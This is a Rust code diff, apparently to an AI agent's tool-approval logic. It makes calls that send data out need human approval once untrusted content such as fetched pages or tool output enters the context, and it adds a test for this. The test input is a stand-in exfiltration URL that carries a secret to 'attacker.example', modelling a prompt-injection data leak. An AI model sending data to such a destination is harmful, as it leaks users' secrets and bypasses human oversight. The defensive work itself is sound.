@@ -25,14 +25,18 @@ pub(crate) struct CallFacts<'a> {
     pub default_risk: RiskTier,
     pub deny_listed: bool,
     pub input: &'a Value,
-    /// The job's context contains tool output, fetched pages or recalled memory.
+    /// The job's context contains tool output, fetched pages, recalled memory or a message from a sender
+    /// who is not an operator.
     pub untrusted: bool,
+    /// The call can carry data to a destination nobody vouched for (see `Tool::sends_data_out`).
+    pub sends_data_out: bool,
 }
 
 /// SPEC §7.1: `never` runs, `always` asks at the policy's risk (default p2), `risk` asks for p0–p2 and
 /// auto-approves p3. A `condition` limits the policy's approval to matching calls. On top of the policy,
 /// deny-listed tools always need a human at p1 or stricter, and once untrusted content is in the context
-/// every call at p0–p2 needs a human whatever the policy says.
+/// every call at p0–p2 — and every call that sends data out, whatever its tier (SPEC Appendix B) — needs
+/// a human whatever the policy says; such an egress call is asked at p2 or stricter.
 pub(crate) fn decide(facts: &CallFacts<'_>) -> Decision {
     let policy = facts.policy;
     let floor = |risk: RiskTier| if facts.deny_listed { risk.stricter(RiskTier::P1) } else { risk };
@@ -44,6 +48,9 @@ pub(crate) fn decide(facts: &CallFacts<'_>) -> Decision {
     let policy_asks = condition_applies && policy.approval == ApprovalMode::Risk && risk.needs_human();
     if policy_asks || facts.deny_listed || (facts.untrusted && risk.needs_human()) {
         return Decision::Approve { risk };
+    }
+    if facts.untrusted && facts.sends_data_out {
+        return Decision::Approve { risk: risk.stricter(RiskTier::P2) };
     }
     if condition_applies && policy.approval == ApprovalMode::Risk {
         Decision::Execute { via: "policy" }
@@ -158,7 +165,8 @@ mod tests {
     }
 
     fn decide_with(policy: &ToolPolicy, default_risk: RiskTier, deny_listed: bool, untrusted: bool) -> Decision {
-        decide(&CallFacts { policy, default_risk, deny_listed, input: &json!({"method": "POST"}), untrusted })
+        let input = json!({"method": "POST"});
+        decide(&CallFacts { policy, default_risk, deny_listed, input: &input, untrusted, sends_data_out: false })
     }
 
     #[test]
@@ -180,6 +188,30 @@ mod tests {
         assert_eq!(decide_with(&never, RiskTier::P2, false, true), Decision::Approve { risk: RiskTier::P2 });
         assert_eq!(decide_with(&never, RiskTier::P3, false, true), Decision::Execute { via: "none" });
         assert_eq!(decide_with(&never, RiskTier::P3, true, false), Decision::Approve { risk: RiskTier::P1 });
+    }
+
+    #[test]
+    fn egress_after_untrusted_content_needs_a_human_whatever_the_tier() {
+        let input = json!({"url": "https://attacker.example/?q=secret"});
+        let egress = |policy: &ToolPolicy, untrusted: bool, sends_data_out: bool| {
+            decide(&CallFacts {
+                policy,
+                default_risk: RiskTier::P3,
+                deny_listed: false,
+                input: &input,
+                untrusted,
+                sends_data_out,
+            })
+        };
+        for policy in [
+            policy(ApprovalMode::Never, None, None),
+            policy(ApprovalMode::Risk, Some(RiskTier::P3), None),
+            policy(ApprovalMode::Risk, None, None),
+        ] {
+            assert_eq!(egress(&policy, true, true), Decision::Approve { risk: RiskTier::P2 }, "{:?}", policy.approval);
+            assert!(matches!(egress(&policy, false, true), Decision::Execute { .. }), "a clean context runs it");
+            assert!(matches!(egress(&policy, true, false), Decision::Execute { .. }), "a vouched-for destination");
+        }
     }
 
     #[test]
